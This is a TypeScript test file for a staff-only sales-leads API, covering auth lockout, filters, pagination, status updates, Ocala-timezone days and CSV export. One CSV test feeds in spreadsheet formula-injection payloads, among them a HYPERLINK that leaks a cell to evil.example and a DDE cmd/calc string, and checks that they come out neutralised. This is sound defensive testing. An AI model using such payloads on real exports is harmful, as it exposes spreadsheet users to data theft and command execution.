/**
 * The staff's lead API (docs/decisions.md D12): the staff key only (401 with the API's JSON error
 * otherwise); GET /api/leads newest first with filters and pagination; GET /api/leads.csv with
 * RFC 4180 quoting and formula cells neutralised; PATCH /api/leads/:id {status}; never cached.
 * Filter days are Ocala's (America/New_York): feb-quote is the first instant of Feb 1 there
 * (05:00 UTC), feb-spam the last of Feb 14.
 */
import { env } from 'cloudflare:test';
import { drizzle } from 'drizzle-orm/d1';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { leads } from '../../shared/schema';
import { csvDownloadHeaders } from '../../worker/http/csv';
import { CSV_COLUMNS } from '../../worker/leads/store/csv-columns';
import type { LeadRow } from '../../worker/leads/store/index';
import { isPgError } from './api-helpers';
import { parseCsv } from './csv-helpers';
import { leadById, sendLead, staffRequest } from './leads-helpers';

const base = (id: string, created_at: string, overrides: Partial<typeof leads.$inferInsert> = {}) => ({
  id,
  kind: 'quote' as const,
  contact_key: `email:${id}@example.com`,
  email: `${id}@example.com`,
  name: `Lead ${id}`,
  created_at,
  updated_at: created_at,
  ...overrides,
});

beforeAll(async () => {
  const db = drizzle(env.DB);
  // One statement per row: D1 binds at most 100 values per statement.
  const [first, ...rest] = [
    base('jan-quote', '2026-01-10T09:00:00.000Z'),
    base('jan-walk', '2026-01-20T09:00:00.000Z', { kind: 'walkthrough', status: 'contacted' }),
    base('feb-quote', '2026-02-01T05:00:00.000Z', { status: 'won' }),
    base('feb-spam', '2026-02-15T04:59:59.999Z', { status: 'spam', spam_reason: 'honeypot' }),
    base('mar-franchise', '2026-03-05T12:00:00.000Z', { kind: 'franchising' }),
  ].map((row) => db.insert(leads).values(row));
  await db.batch([first!, ...rest]);
});

const listed = async (query = '') => {
  const res = await staffRequest(`/api/leads${query}`);
  expect(res.status).toBe(200);
  return (await res.json()) as { leads: LeadRow[]; total: number; limit: number; offset: number };
};
const ids = (rows: LeadRow[]) => rows.map((r) => r.id);

describe('staff only', () => {
  it.each([
    ['GET', '/api/leads'],
    ['GET', '/api/leads.csv'],
    ['GET', '/api/leads/jan-quote'],
    ['PATCH', '/api/leads/jan-quote'],
  ])('%s %s without the key: 401, the API error, nothing cached', async (method, path) => {
    const res = await staffRequest(
      path,
      { method, body: method === 'PATCH' ? '{"status":"won"}' : undefined, headers: { 'content-type': 'application/json' } },
      '198.51.100.201',
      '',
    );
    expect(res.status).toBe(401);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const body = await res.json();
    expect(isPgError(body)).toBe(true);
    expect(body).toMatchObject({ code: '42501' });
    expect((await leadById('jan-quote')).status).toBe('new');
  });

  it('the public key is no key, and a wrong key is refused (and counted towards the lockout)', async () => {
    const anon = await staffRequest('/api/leads', {}, '198.51.100.202', 'test-anon-key');
    expect(anon.status).toBe(401);
    expect(await anon.json()).toMatchObject({ code: '42501' });
    const wrong = await staffRequest('/api/leads', {}, '198.51.100.203', 'not-the-staff-key');
    expect(wrong.status).toBe(401);
    expect(await wrong.json()).toMatchObject({ code: 'PGRST301' });
    // Guessing from one address ends in a lockout, as on /rest.
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) statuses.push((await staffRequest('/api/leads', {}, '198.51.100.204', `guess-${i}`)).status);
    expect(statuses.at(-1)).toBe(429);
    expect((await staffRequest('/api/leads', {}, '198.51.100.204')).status).toBe(429);
  });
});

describe('GET /api/leads', () => {
  it('lists newest first with the total, never cached', async () => {
    const res = await staffRequest('/api/leads');
    expect(res.headers.get('cache-control')).toBe('no-store');
    const body = (await res.json()) as { leads: LeadRow[]; total: number };
    expect(ids(body.leads)).toEqual(['mar-franchise', 'feb-spam', 'feb-quote', 'jan-walk', 'jan-quote']);
    expect(body).toMatchObject({ total: 5, limit: 50, offset: 0 });
    expect(body.leads[0]!.services).toEqual([]);
  });

  it.each([
    ['?status=won', ['feb-quote']],
    ['?status=spam', ['feb-spam']],
    ['?kind=walkthrough', ['jan-walk']],
    ['?kind=quote&status=new', ['jan-quote']],
    ['?from=2026-02-01', ['mar-franchise', 'feb-spam', 'feb-quote']],
    ['?to=2026-02-14', ['feb-spam', 'feb-quote', 'jan-walk', 'jan-quote']],
    ['?from=2026-01-11&to=2026-02-01', ['feb-quote', 'jan-walk']],
    ['?from=2026-04-01', []],
  ])('filters %s', async (query, expected) => {
    const body = await listed(query);
    expect(ids(body.leads)).toEqual(expected);
    expect(body.total).toBe(expected.length);
  });

  it('pages with limit and offset, the total counting every match', async () => {
    const first = await listed('?limit=2');
    const second = await listed('?limit=2&offset=2');
    const last = await listed('?limit=2&offset=4');
    expect([ids(first.leads), ids(second.leads), ids(last.leads)]).toEqual([['mar-franchise', 'feb-spam'], ['feb-quote', 'jan-walk'], ['jan-quote']]);
    expect([first.total, second.total, last.total]).toEqual([5, 5, 5]);
  });

  it.each([
    '?status=pending',
    '?kind=complaint',
    '?from=2026-02-30',
    '?to=yesterday',
    '?limit=0',
    '?limit=501',
    '?offset=-1',
    '?stauts=new',
    '?status=new&status=won',
  ])('refuses %s with 400 and what is allowed', async (query) => {
    const res = await staffRequest(`/api/leads${query}`);
    expect(res.status).toBe(400);
    const body = (await res.json()) as { hint: string };
    expect(isPgError(body)).toBe(true);
    expect(body.hint).toBeTruthy();
  });

  it('reads one lead', async () => {
    const res = await staffRequest('/api/leads/feb-spam');
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ id: 'feb-spam', status: 'spam', spam_reason: 'honeypot' });
    expect((await staffRequest('/api/leads/nope')).status).toBe(404);
  });
});

describe('GET /api/leads.csv', () => {
  it('a header of every column, then one row per lead, RFC 4180, as a download', async () => {
    const res = await staffRequest('/api/leads.csv?kind=quote');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual(CSV_COLUMNS);
    expect(rows.slice(1).map((r) => r[0])).toEqual(['feb-spam', 'feb-quote', 'jan-quote']);
  });

  it('neutralises formula cells and quotes what needs quoting, so a hostile lead opens as text', async () => {
    const hostile = {
      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      company: "+cmd|' /C calc'!A0",
      location: '@SUM(1+1)*cmd',
      message: '-2+3, "quoted", and\na second line',
      email: 'csv-hostile@example.com',
    };
    const res = await sendLead('quote', hostile, { ip: '198.51.100.210' });
    const { id } = (await res.json()) as { id: string };
    // Straight into D1 too: cells that begin with a tab or a carriage return (the form's schema trims those).
    await env.DB.prepare('UPDATE leads SET utm_term = ?, utm_content = ? WHERE id = ?').bind('\t=1+1', '\r=2+2', id).run();
    const rows = parseCsv(await (await staffRequest('/api/leads.csv')).text());
    const header = rows[0]!;
    const row = rows.find((r) => r[0] === id)!;
    const cell = (column: string) => row[header.indexOf(column)];
    expect(cell('name')).toBe(`'${hostile.name}`);
    expect(cell('company')).toBe(`'${hostile.company}`);
    expect(cell('location')).toBe(`'${hostile.location}`);
    expect(cell('message')).toBe(`'${hostile.message}`);
    expect(cell('utm_term')).toBe("'\t=1+1");
    expect(cell('utm_content')).toBe("'\r=2+2");
    expect(cell('phone')).toBe('(352) 555-0142');
    expect(cell('services')).toBe('janitorial-services; floor-care');
    for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('PATCH /api/leads/:id', () => {
  const patch = (id: string, body: unknown, contentType = 'application/json') =>
    staffRequest(`/api/leads/${id}`, {
      method: 'PATCH',
      headers: { 'content-type': contentType },
      body: typeof body === 'string' ? body : JSON.stringify(body),
    });

  it('sets the status and answers with the lead', async () => {
    const res = await patch('mar-franchise', { status: 'contacted' });
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const lead = (await res.json()) as LeadRow;
    expect(lead).toMatchObject({ id: 'mar-franchise', status: 'contacted' });
    expect(lead.updated_at > '2026-03-05T12:00:00.000Z').toBe(true);
    expect((await leadById('mar-franchise')).status).toBe('contacted');
  });

  it.each([
    ['an unknown status', { status: 'archived' }, 400],
    ['another field', { status: 'won', email: 'x@example.com' }, 400],
    ['no status', {}, 400],
    ['malformed JSON', '{"status":', 400],
  ])('refuses %s', async (_name, body, status) => {
    const res = await patch('jan-quote', body);
    expect(res.status).toBe(status);
    expect(isPgError(await res.json())).toBe(true);
    expect((await leadById('jan-quote')).status).toBe('new');
  });

  it('an unknown lead is 404, another content type 415', async () => {
    expect((await patch('no-such-lead', { status: 'won' })).status).toBe(404);
    expect((await patch('jan-quote', 'status=won', 'application/x-www-form-urlencoded')).status).toBe(415);
  });
});

describe('filter days follow the company midnight (Ocala), not UTC', () => {
  // Leads a millisecond either side of Ocala's midnights around both 2026 daylight-saving days:
  // March 8 runs 05:00 UTC to 04:00 UTC next day (23 hours), November 1 04:00 to 05:00 (25 hours).
  // Added here and removed after, so the lists above keep their five leads.
  const edges = [
    base('mar07-last', '2026-03-08T04:59:59.999Z'),
    base('mar08-first', '2026-03-08T05:00:00.000Z'),
    base('mar08-last', '2026-03-09T03:59:59.999Z'),
    base('mar09-first', '2026-03-09T04:00:00.000Z'),
    base('oct31-last', '2026-11-01T03:59:59.999Z'),
    base('nov01-first', '2026-11-01T04:00:00.000Z'),
    base('nov01-last', '2026-11-02T04:59:59.999Z'),
    base('nov02-first', '2026-11-02T05:00:00.000Z'),
  ];

  beforeAll(async () => {
    const db = drizzle(env.DB);
    const [first, ...rest] = edges.map((row) => db.insert(leads).values(row));
    await db.batch([first!, ...rest]);
  });

  afterAll(async () => {
    await env.DB.prepare(`DELETE FROM leads WHERE id IN (${edges.map(() => '?').join(', ')})`)
      .bind(...edges.map((e) => e.id))
      .run();
  });

  it.each([
    // In UTC days these would be [mar08-last, mar08-first, mar07-last] and [nov01-first, oct31-last].
    ['?from=2026-03-08&to=2026-03-08', ['mar08-last', 'mar08-first']],
    ['?from=2026-11-01&to=2026-11-01', ['nov01-last', 'nov01-first']],
    ['?from=2026-03-09&to=2026-03-09', ['mar09-first']],
    ['?from=2026-03-07&to=2026-03-07', ['mar07-last']],
    ['?from=2026-11-02&to=2026-11-02', ['nov02-first']],
    ['?from=2026-10-31&to=2026-10-31', ['oct31-last']],
  ])('%s', async (query, expected) => {
    const body = await listed(query);
    expect(ids(body.leads)).toEqual(expected);
    expect(body.total).toBe(expected.length);
  });

  it('the CSV export counts the same days', async () => {
    const rows = parseCsv(await (await staffRequest('/api/leads.csv?from=2026-11-01&to=2026-11-01')).text());
    expect(rows.slice(1).map((r) => r[0])).toEqual(['nov01-last', 'nov01-first']);
  });

  it('the download is named after the day in Ocala, not in UTC', () => {
    // 22:00 on Nov 1 in Ocala is already Nov 2 in UTC.
    expect(csvDownloadHeaders('leads', new Date('2026-11-02T03:00:00.000Z'))['content-disposition']).toBe('attachment; filename="leads-2026-11-01.csv"');
  });

  it('a refused day says which clock counts', async () => {
    const res = await staffRequest('/api/leads?from=2026-02-29');
    expect(res.status).toBe(400);
    expect(((await res.json()) as { hint: string }).hint).toContain('Ocala time');
  });
});
